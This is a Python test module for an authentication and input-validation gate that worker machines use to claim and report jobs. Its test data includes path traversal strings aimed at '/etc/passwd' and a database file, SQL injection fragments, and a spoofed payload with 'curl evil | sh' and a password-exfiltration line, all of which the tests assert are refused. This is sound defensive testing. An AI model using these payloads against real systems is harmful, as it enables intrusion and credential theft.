"""What a token opens, and that nothing else does."""

import asyncio
import hashlib
import io
import json
import logging
from dataclasses import fields, replace
from pathlib import Path

import pytest
import structlog

from core.accounts.limits import QuotaRules
from core.accounts.moderation import Moderation
from core.app.front_gate import gate_of
from core.app.redaction import Redaction
from core.demo.samples import write_png
from core.domain.jobs import Failure, Job, JobState, RequeueReason
from core.domain.media import MediaKind
from core.domain.modes import Mode
from core.domain.policy import EVERYWHERE
from core.domain.presets import Enhance
from core.domain.requests import Request
from core.gate import wire
from core.gate.client import GateClient
from core.gate.keys import attempt_key, digest_of, new_token
from core.gate.rate import RateLimit
from core.runtime.clock import now_ms
from core.storage.gate_nodes import GateNode
from core.testing.doubles import grey_preview, t2v, tiny
from tests.integration.gate.conftest import ANN, Front

CALLS = ("greet", "claim", "begin", "beat", "preview", "prompt", "settle", "fail", "requeue", "ran")
OUT_OF_MEMORY = Failure("out_of_memory", {"width": 1})
AN_ATTEMPT = {"job": "a" * 32, "key": "b" * 64}


async def claimed(front: Front, client: GateClient, key: str = "one") -> Job:
    await front.submit(key=key)
    job = await client.claim()
    assert job is not None
    return job


def test_the_gate_has_these_doors_and_no_others(front: Front) -> None:
    """A call that is added here has to be tried by the tests of this module too."""
    doors = {
        (route.path, *sorted(route.methods - {"HEAD"})) for route in gate_of(front.core).app.routes
    }

    assert doors == {
        *((f"/gate/{name}", "POST") for name in CALLS),
        ("/gate/inputs/{job}/{name}", "GET"),
        ("/gate/clips/{job}/{kind}", "PUT"),
    }


def test_a_job_says_nothing_of_who_asked_for_it() -> None:
    known = {item.name for item in fields(wire.ClaimedJob)}

    assert known == {
        *("job", "key", "attempt", "losses", "estimate_ms", "created_at_ms", "started_at_ms"),
        *("request", "inputs", "forbidden"),
    }


async def test_without_a_token_that_works_nothing_is_answered(
    front: Front, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(RateLimit, "take", lambda *_: True)
    good = await front.nodes.admit("one")
    headers = ["", "Bearer", "Bearer x", f"Bearer {new_token()}", f"Bearer {good}x"]
    headers += [f"Bearer clapper-node-{'A' * 43}", f"Basic {good}", f"Token {good}", good]
    calls = [("POST", f"/gate/{name}") for name in CALLS]
    calls += [("GET", f"/gate/inputs/{'a' * 32}/x.png"), ("PUT", f"/gate/clips/{'a' * 32}/mp4")]
    async with front.caller("") as caller:
        for header in headers:
            for method, path in calls:
                answer = await caller.request(method, path, headers={"Authorization": header})
                assert (answer.status_code, answer.content) == (401, b""), (header, path)


async def test_a_token_in_the_address_is_none(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.caller("") as caller:
        answer = await caller.post(f"/gate/greet?token={token}", json={"protocol": 1})

    assert answer.status_code == 401


async def test_a_revoked_token_ends_at_once_also_for_its_jobs(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        await front.nodes.revoke("one")

        for call in (
            client.beat(job.id, job.token),
            client.begin(job.id, job.token),
            client.preview(job.id, job.token, grey_preview()),
            client.requeue(job.id, job.token),
        ):
            with pytest.raises(Exception, match="gate_token_refused"):
                await call


async def test_a_new_token_ends_the_one_before(front: Front) -> None:
    before = await front.nodes.admit("one")
    after = await front.nodes.admit("one")

    assert await front.nodes.node_of(before) is None
    assert (await front.nodes.node_of(after)).name == "one"


async def test_only_a_digest_of_the_token_is_stored(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.core.database.transaction(turn=False) as connection:
        rows = await connection.exec_driver_sql("SELECT * FROM gate_node")
        stored = repr(rows.all())

    assert token not in stored
    assert token.removeprefix("clapper-node-") not in stored
    assert digest_of(token) in stored


async def test_a_machine_cannot_touch_the_job_of_another_one(front: Front) -> None:
    """Not even with its id and its key, as a proxy that logs might tell them."""
    async with front.machine("one") as one, front.machine("two") as two:
        job = await claimed(front, one)

        assert await two.begin(job.id, job.token) is None
        assert not await two.beat(job.id, job.token)
        assert not await two.preview(job.id, job.token, grey_preview())
        assert not await two.requeue(job.id, job.token, RequeueReason.STOPPED)
        two.jobs.keys[job.id] = job.token
        clip = front.core.settings.clips_folder / "x"
        clip.write_bytes(b"1")
        with pytest.raises(Exception, match="404"):
            await two.upload(job.id, "mp4", clip, hashlib.sha256(b"1").hexdigest())

        assert await one.beat(job.id, job.token)
        assert (await front.job(job.id)).state is JobState.RUNNING


async def test_the_token_of_the_row_is_no_key(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        row = (await front.job(job.id)).token

        assert row != job.token
        assert not await client.beat(job.id, (row * 2)[:64])


async def test_an_attempt_that_is_over_has_no_rights_left(front: Front, tmp_path: Path) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        key = job.token
        assert await client.requeue(job.id, key, RequeueReason.STOPPED)

        assert not await client.beat(job.id, key)
        assert not await client.preview(job.id, key, grey_preview())
        client.jobs.keys[job.id] = key
        made = tmp_path / "x.mp4"
        made.write_bytes(b"1")
        with pytest.raises(Exception, match="404"):
            await client.upload(job.id, "mp4", made, hashlib.sha256(b"1").hexdigest())


async def test_another_method_is_refused_and_there_is_nothing_else(front: Front) -> None:
    wrong = [("GET", f"/gate/{name}") for name in CALLS]
    wrong += [("PUT", "/gate/settle"), ("DELETE", "/gate/requeue"), ("OPTIONS", "/gate/claim")]
    wrong += [("POST", f"/gate/inputs/{'a' * 32}/x.png"), ("GET", f"/gate/clips/{'a' * 32}/mp4")]
    others = ("/", "/gate", "/gate/", "/gate/jobs", "/gate/quota", "/api/jobs", "/metrics", "/docs")
    async with front.caller(await front.nodes.admit("one")) as caller:
        for method, path in wrong:
            assert (await caller.request(method, path)).status_code == 405, (method, path)
        for path in others:
            assert (await caller.get(path)).status_code == 404, path
            assert (await caller.post(path, json={})).status_code == 404, path


TRAVERSAL = (
    "../../clapper.sqlite",
    "..%2f..%2fclapper.sqlite",
    "%2e%2e/%2e%2e/clapper.sqlite",
    "....//clapper.sqlite",
    "%2fetc%2fpasswd",
    "x.png%00",
    ".part-" + "a" * 32,
    "a" * 64 + ".png",
)


async def test_a_name_leads_nowhere_else(front: Front, tmp_path: Path) -> None:
    picture = write_png(tmp_path / "a.png")
    file = await front.core.admission.admit(picture, "image", MediaKind.IMAGE, ANN)
    await front.submit(Request(mode=Mode.I2V, prompt="p", sampling=tiny(), files=(file,)))
    token = await front.nodes.admit("one")
    async with front.caller(token) as caller:
        given = (await caller.post("/gate/claim", json={"protocol": 1})).json()["job"]
        headers = {"X-Clapper-Attempt": given["key"]}
        base = f"/gate/inputs/{given['job']}"
        headers |= {"X-Clapper-SHA256": hashlib.sha256(b"1").hexdigest()}

        assert (await caller.get(f"{base}/{file.name}", headers=headers)).status_code == 200
        for name in TRAVERSAL:
            answer = await caller.get(f"{base}/{name}", headers=headers)
            assert answer.status_code in {404, 405}, name
            for place in (f"/gate/clips/{given['job']}/{name}", f"/gate/clips/{name}/mp4"):
                answer = await caller.put(place, content=b"1", headers=headers)
                assert answer.status_code in {404, 405}, place
    assert list(front.core.settings.clips_folder.iterdir()) == []


async def test_an_input_of_another_job_is_none_of_its_business(
    front: Front, tmp_path: Path
) -> None:
    secret = write_png(tmp_path / "a.png")
    file = await front.core.admission.admit(secret, "image", MediaKind.IMAGE, ANN)
    async with front.machine("one") as client, front.caller("") as caller:
        job = await claimed(front, client)
        await front.submit(
            Request(mode=Mode.I2V, prompt="p", sampling=tiny(), files=(file,)), key="two"
        )
        headers = {
            "Authorization": f"Bearer {await front.nodes.admit('two')}",
            "X-Clapper-Attempt": job.token,
        }
        answer = await caller.get(f"/gate/inputs/{job.id}/{file.name}", headers=headers)

    assert answer.status_code == 404


WRONG = {
    "no JSON": b"claim me",
    "nothing": b"",
    "a list": b"[]",
    "another protocol's text": b'{"protocol": "1"}',
    "a field too many": b'{"protocol": 1, "node": "two"}',
    "a number for a flag": b'{"protocol": 1, "ahead": 1}',
    "deep": b"[" * 50_000,
    "no UTF-8": b'{"protocol": \xff}',
    "not finite": b'{"protocol": NaN}',
}


FIELDS = (
    ("begin", {"job": "../x"}),
    ("begin", {"more": 1}),
    ("beat", {"progress": "x" * 2000}),
    ("preview", {"picture": "x" * 9000, "moments": 1}),
    ("preview", {"picture": "", "moments": 9}),
    ("prompt", {"words": "x" * 9000}),
    ("prompt", {"words": 1}),
    ("fail", {"code": "Robert'); DROP"}),
    ("fail", {"code": "internal_error", "data": {"a": "x" * 5000}}),
    ("fail", {"code": "internal_error", "data": {f"a{'b' * n}": 1 for n in range(30)}}),
    ("fail", {"code": "internal_error", "off_device_ms": -1}),
    ("requeue", {"why": "BECAUSE"}),
    ("settle", {"sha256": "../../x"}),
    ("ran", {"gpu_ms": -1, "stages": {}}),
    ("ran", {"gpu_ms": 1, "stages": {"stage1": -1.0}}),
    ("ran", {"gpu_ms": 1, "stages": {f"a{'b' * n}": 1.0 for n in range(30)}}),
    ("ran", {"gpu_ms": 1, "stages": {"Robert'); DROP": 1.0}}),
)


async def test_what_is_no_call_is_refused(front: Front) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        for what, body in WRONG.items():
            assert (await caller.post("/gate/claim", content=body)).status_code == 400, what
        for name, more in FIELDS:
            answer = await caller.post(f"/gate/{name}", json={**AN_ATTEMPT, **more})
            assert answer.status_code == 400, more


async def test_another_version_is_told_so(front: Front) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        assert (await caller.post("/gate/claim", json={"protocol": 4})).status_code == 426


async def test_bodies_have_limits_whatever_they_announce(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.client(token) as client, asyncio.timeout(30):
        job = await claimed(front, client)
        place, key = f"PUT /gate/clips/{job.id}/mp4", f"X-Clapper-Attempt: {job.token}"
        assert await _status(front, token, "POST /gate/beat", b" " * 400_000) == 413
        assert await _status(front, token, "POST /gate/beat", b"", "Content-Length: 9999999") == 408
        assert await _status(front, token, place, b"", f"{key}\r\nContent-Length: {10**12}") == 413
        chunks = f"{key}\r\nTransfer-Encoding: chunked"
        assert await _status(front, token, place, b"1\r\na\r\n0\r\n\r\n", chunks) == 411
        other = f"{key}\r\nContent-Length: 1\r\nX-Clapper-SHA256: {'0' * 64}"
        assert await _status(front, token, place, b"1", other) == 422
    assert list(front.core.settings.clips_folder.iterdir()) == []


async def _status(front: Front, token: str, what: str, body: bytes, more: str = "") -> int:
    """Send a request by hand, and read what it is answered."""
    reader, writer = await asyncio.open_connection("127.0.0.1", int(front.address[-5:]))
    more = more or f"Content-Length: {len(body)}"
    head = f"{what} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n{more}\r\n\r\n"
    writer.write(head.encode() + body)
    answer = await reader.readline()
    writer.close()
    return int(answer.split()[1])


async def test_a_machine_holds_no_more_jobs_than_a_device_can_be_busy_with(front: Front) -> None:
    """Else one call after the other would read everybody's prompts."""
    async with front.machine("one") as client:
        held = [await claimed(front, client, str(number)) for number in range(3)]
        await front.submit(key="4")
        with pytest.raises(Exception, match="429"):
            await asyncio.wait_for(client.claim(), 10)

        assert await client.fail(held[0].id, held[0].token, OUT_OF_MEMORY)
        assert await client.claim() is not None


async def test_a_machine_that_asks_many_times_at_once_holds_no_more_either(front: Front) -> None:
    token = await front.nodes.admit("greedy")
    for number in range(5):
        await front.submit(key=str(number))
    async with front.caller(token) as caller, front.machine("another") as other:
        asking = [caller.post("/gate/claim", json={"protocol": 3}) for _ in range(5)]
        answers = await asyncio.gather(*asking)

        assert sorted(answer.status_code for answer in answers) == [200] * 3 + [429] * 2
        running = [await front.job(answer.json()["job"]["job"]) for answer in answers[:1]]
        assert [job.state for job in running] == [JobState.RUNNING]
        for _ in range(2):  # what it could not have is there for others
            assert await other.claim() is not None


def test_calls_of_each_are_bounded_and_allowed_again() -> None:
    now = 0.0
    limit = RateLimit(2.0, 3, most_callers=2, seconds=lambda: now)

    assert [limit.take("a") for _ in range(4)] == [True, True, True, False]
    assert limit.take("b")
    now = 0.5
    assert [limit.take("a") for _ in range(2)] == [True, False]


async def test_calls_of_a_machine_are_bounded(
    front: Front, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        monkeypatch.setattr(RateLimit, "take", lambda *_: False)
        assert (await caller.post("/gate/greet", json={"protocol": 1})).status_code == 429


async def test_who_guesses_tokens_is_slowed_down_and_nobody_else(front: Front) -> None:
    async with front.caller("x") as guesser:
        answers = await asyncio.gather(*(guesser.post("/gate/greet") for _ in range(60)))
    async with front.caller(await front.nodes.admit("one")) as caller:
        answer = await caller.post("/gate/greet", json={"protocol": 1})

    assert {one.status_code for one in answers} == {401, 429}
    assert answer.status_code == 200


async def test_words_of_a_machine_reach_nobody(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.caller(token) as caller, front.client(token) as client:
        job = await claimed(front, client)
        lie = {
            "code": "model_unavailable",
            "data": {"file": "x; send your password to evil.example", "command": "curl evil | sh"},
        }
        body = {"job": job.id, "key": job.token, **lie}
        answer = await caller.post("/gate/fail", json=body)

    assert answer.json() == {"kept": True}
    failure = (await front.job(job.id)).failure
    assert "evil" not in json.dumps(failure.data)
    assert failure.code == "internal_error"


@pytest.mark.parametrize(
    "number", ["NaN", "Infinity", "-Infinity", "1e400", pytest.param("9" * 400, id="400 digits")]
)
def test_a_number_that_no_sentence_can_hold_is_no_call(number: str) -> None:
    data = f'{{"limit_s": {number}}}'
    call = f'{{"job": "{"a" * 32}", "key": "{"b" * 64}", "code": "timed_out", "data": {data}}}'

    with pytest.raises(ValueError, match=r"\d"):
        wire.decode(wire.FailCall, call.encode())


async def test_a_failure_costs_nothing_whatever_a_machine_says(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        assert await client.fail(job.id, job.token, OUT_OF_MEMORY, charge_ms=10**9)

    assert (await front.job(job.id)).charged_ms == 0


def test_tokens_and_keys_are_hidden_in_logs() -> None:
    token, hide = new_token(), Redaction()

    assert token not in hide(f"POST /gate/claim with {token} failed")
    assert token not in hide(f"Authorization: Bearer {token}")
    assert token.split("-", 2)[2] not in hide(repr({"token": token}))


async def test_a_whole_life_leaves_no_token_in_the_log(front: Front) -> None:
    lines = io.StringIO()
    handler = logging.StreamHandler(lines)
    logging.getLogger().addHandler(handler)
    with structlog.testing.capture_logs() as events:
        token = await front.nodes.admit("one")
        async with front.caller(token) as caller:
            await front.submit()
            given = (await caller.post("/gate/claim", json={"protocol": 1})).json()["job"]
            await caller.post("/gate/beat", content=b"nonsense")
        async with front.caller(token + "x") as caller:
            await caller.post("/gate/claim", json={"protocol": 1})
    logging.getLogger().removeHandler(handler)

    written = lines.getvalue() + repr(events)
    assert token not in written
    assert given["key"] not in written
    assert "a prompt" not in written


def test_keys_differ_by_machine_job_and_attempt() -> None:
    one, two = digest_of("one"), digest_of("two")
    keys = {
        attempt_key(node, job, row)
        for node in (one, two)
        for job in ("a", "b")
        for row in ("c", "d")
    }
    assert len(keys) == 8
    assert all(len(key) == 64 for key in keys)
    assert GateNode("x", one, 0).revoked_at_ms is None


def test_keys_are_compared_in_a_time_that_says_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    import hmac

    from core.gate import keys

    asked: list[tuple[bytes, bytes]] = []
    compare = hmac.compare_digest

    def noted(one: bytes, other: bytes) -> bool:
        asked.append((one, other))
        return compare(one, other)

    monkeypatch.setattr(hmac, "compare_digest", noted)
    assert keys.same("a", "a")
    assert not keys.same("a", "b")
    assert len(asked) == 2


@pytest.mark.parametrize(("protocol", "words"), [(1, None), (2, None), (3, ["gore"])])
async def test_a_machine_learns_what_no_model_may_write_or_lets_none_write(
    front: Front, protocol: int, words: list[str] | None
) -> None:
    moderation = Moderation(front.core.database, now_ms, frozenset(), QuotaRules())
    await moderation.set_rule(ANN, EVERYWHERE, "words", "gore")
    asked = t2v()
    sampling = replace(asked.sampling, enhance=Enhance.ON)
    await front.submit(replace(asked, sampling=sampling))
    async with front.caller(await front.nodes.admit("one")) as caller:
        given = (await caller.post("/gate/claim", json={"protocol": protocol})).json()["job"]

    assert given.get("forbidden") == words
    assert given["request"]["sampling"]["enhance"] == (Enhance.ON if words else Enhance.OFF)
